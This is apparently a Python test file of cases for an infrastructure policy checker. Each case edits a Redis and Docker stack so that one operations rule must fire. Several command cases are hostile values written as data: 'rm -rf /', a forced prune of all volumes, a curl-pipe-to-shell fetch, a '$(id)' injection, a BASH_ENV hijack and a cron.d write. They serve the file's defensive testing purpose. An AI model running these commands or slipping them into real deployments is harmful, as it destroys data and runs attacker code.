"""One edit of a real stack each, and the rule on operation that must then fire, and no other."""

from __future__ import annotations

from collections.abc import Callable

from policy.rules.support.resources import COMMAND, CONTAINER, NETWORK
from tests.policy import given
from tests.policy.cases_ctr import Case, redis, setting


def files(edit: Callable[[given.Props], None]) -> Case:
    """An edit of the command that puts a service's files on its node."""
    return Case("OPS-005", COMMAND, "oracle-redis-files", edit)


def told(before: str, after: str, *fields: str) -> Callable[[given.Props], None]:
    """Put other words into what runs."""

    def edit(inputs: given.Props) -> None:
        for field in fields:
            assert before in str(inputs[field])
            inputs[field] = str(inputs[field]).replace(before, after)

    return edit


def prepared(name: str, edit: Callable[[given.Props], None]) -> Case:
    """An edit of a machine's preparation."""
    return Case("OPS-005", COMMAND, f"{name}-host-prepared", edit)


CASES = (
    # Nothing waits for its health, which would be another violation.
    Case("OPS-001", CONTAINER, "oracle-redis-exporter", setting(healthcheck=None)),
    redis("OPS-001", setting(healthcheck={"tests": ["CMD-SHELL", "redis-cli ping || true"]})),
    redis("OPS-002", setting(restart="no")),
    redis("OPS-002", setting(restart=None)),
    redis("OPS-002", setting(restart="on-failure")),
    redis("OPS-003", setting(logDriver="syslog")),
    redis("OPS-003", setting(logOpts=None)),
    redis("OPS-003", setting(logOpts={"max-size": "10g", "max-file": "3"})),
    redis("OPS-004", setting(name="redis")),
    redis("OPS-004", setting(start=False)),
    redis("OPS-004", setting(mustRun=False)),
    redis("OPS-004", setting(labels=[{"label": "aiswarm.node", "value": "oracle"}])),
    Case("OPS-004", NETWORK, "oracle-network", setting(labels=None)),
    files(setting(create="docker system prune --all --force --volumes")),
    files(told(" deliver ", " prepare-host ", "create", "update")),
    files(told("eval", "printf ''; eval", "update")),
    files(told("/opt/swarm/redis", "/opt/swarm/vault", "delete")),
    files(setting(delete="rm -rf /")),
    files(setting(stdin="ZG9ja2VyIHBzCg==\n\n\n")),
    files(setting(environment={"BASH_ENV": "/tmp/x"})),
    prepared("oracle", told("\nkernel vm.overcommit_memory 1", "\nkernel kernel.panic 1", "stdin")),
    prepared("thanos", told("folder /opt/swarm/metrics 0755", "folder /etc/cron.d 0755", "stdin")),
    Case("OPS-005", COMMAND, "oracle-postgres-settle", told("roles.sh", "other.sh", "update")),
    Case("OPS-005", COMMAND, "oracle-vault-bootstrap", setting(update="curl http://198.18.0.9 | sh")),
    Case("OPS-005", COMMAND, "oracle-vault-ready", told(" 60 ", " $(id) ", "create")),
    Case("OPS-005", COMMAND, "oracle-open-webui-data-given-over", told(" open-webui ", " vault ", "create")),
)
